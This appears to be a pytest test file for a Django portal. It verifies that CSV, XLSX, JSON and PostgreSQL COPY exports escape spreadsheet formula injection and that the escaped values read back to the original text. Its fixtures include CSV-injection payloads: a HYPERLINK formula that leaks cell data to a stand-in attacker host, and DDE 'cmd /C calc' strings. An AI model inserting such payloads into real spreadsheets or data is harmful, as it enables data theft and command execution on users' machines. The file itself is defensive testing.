"""No export gives a spreadsheet program a formula to run: every cell that starts with = + - @, a
tab or a carriage return (OWASP's list) carries a leading apostrophe, in every format and through
every export path (the admin's Spreadsheet export, the bulk exports, COPY on PostgreSQL, the
Resource's own export()). Files are read
back with the csv module and openpyxl, as a spreadsheet program would see them."""

import csv
import io
import json

import openpyxl
import pytest
import tablib
from django.test import Client
from django.urls import reverse

from portal.bulk.copy_export import copy_csv
from portal.bulk.formats import read_tables
from portal.bulk.registry import get_spec
from portal.bulk.services import export_table
from portal.models import Status
from profiles.models import Initiative
from profiles.resources import InitiativeResource
from tests.portal.factories import UserFactory
from tests.profiles.factories import CountryFactory, InitiativeFactory

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 behind a tab",
    "\r": "\r=1+1 behind a carriage return",
}


@pytest.fixture
def hostile_records():
    country = CountryFactory(iso_code="ZZ", name="=HYPERLINK(1)", slug="zedland")
    for n, title in enumerate(HOSTILE.values()):
        InitiativeFactory(country=country, title=title, year=2000 + n, status=Status.PUBLISHED)
    return country


def assert_formula_safe_cells(rows):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    unsafe = [cell for cell in cells if cell.startswith(STARTS)]
    assert unsafe == []
    for value in HOSTILE.values():
        # XML reads a carriage return as a line feed (XLSX is XML).
        assert {"'" + value, "'" + value.replace("\r", "\n")} & set(cells), f"{value!r} missing"


def csv_rows(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_rows(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            formulas = [cell.coordinate for cell in row if cell.data_type == "f"]
            assert formulas == [], f"formula cells in {sheet.title}: {formulas}"
            rows.append([cell.value for cell in row])
    return rows


def json_rows(content):
    records = json.loads(content.decode())
    return [list(record.values()) for record in records]


def admin_export(kind):
    """Sign in and export initiatives from the admin's Spreadsheet export, CSRF checks on."""
    chief = UserFactory(username="chief", is_superuser=True)
    chief.save()
    client = Client(enforce_csrf_checks=True)
    client.force_login(chief)
    url = reverse("admin:profiles_initiative_bulk_export")
    assert client.get(url).status_code == 200
    response = client.get(url, {"format": kind})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    ("kind", "read"), [("csv", csv_rows), ("xlsx", xlsx_rows), ("json", json_rows)]
)
def test_admin_export_gives_no_formula(hostile_records, kind, read):
    rows = read(admin_export(kind))
    assert_formula_safe_cells(rows)
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert "'=HYPERLINK(1)" not in cells  # the country is named by its ISO code


def test_resource_export_gives_no_formula(hostile_records):
    """Code that uses django-import-export the usual way gets the same escaped cells."""
    dataset = InitiativeResource().export()
    assert_formula_safe_cells([list(row) for row in dataset])
    assert_formula_safe_cells(csv_rows(dataset.export("csv").encode()))


def test_bulk_exports_give_no_formula(hostile_records):
    spec = get_spec("initiatives")
    for kind, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        target = io.BytesIO() if kind == "xlsx" else io.StringIO()
        export_table(spec=spec, target=target, kind=kind)
        content = target.getvalue()
        assert_formula_safe_cells(read(content if kind == "xlsx" else content.encode()))


@pytest.mark.postgres
def test_copy_export_on_postgresql_gives_no_formula(hostile_records):
    target = io.StringIO()
    assert copy_csv(get_spec("initiatives"), target)
    assert_formula_safe_cells(csv_rows(target.getvalue().encode()))


def test_exports_read_back_to_the_original_text(hostile_records):
    """The escape is for spreadsheet programs only: the portal's own readers take it off."""
    titles = set(HOSTILE.values())
    for kind in ("csv", "xlsx"):
        target = io.BytesIO() if kind == "xlsx" else io.StringIO()
        export_table(spec=get_spec("initiatives"), target=target, kind=kind)
        content = target.getvalue()
        data = io.BytesIO(content if kind == "xlsx" else content.encode())
        [table] = read_tables(data, f"initiatives.{kind}")
        column = table.headers.index("title")
        read = {cells[column] for _number, cells in table.rows}
        # XML, and so XLSX, has no carriage return: any reader sees a line feed there instead.
        expected = titles - {HOSTILE["\r"]} if kind == "xlsx" else titles
        assert expected <= read, kind
    before = dict(Initiative.objects.values_list("pk", "title"))
    exported = InitiativeResource().export()
    result = InitiativeResource().import_data(tablib.Dataset().load(exported.csv, format="csv"))
    assert not result.has_validation_errors() and not result.has_errors()
    assert result.totals["skip"] == len(before)
    assert dict(Initiative.objects.values_list("pk", "title")) == before
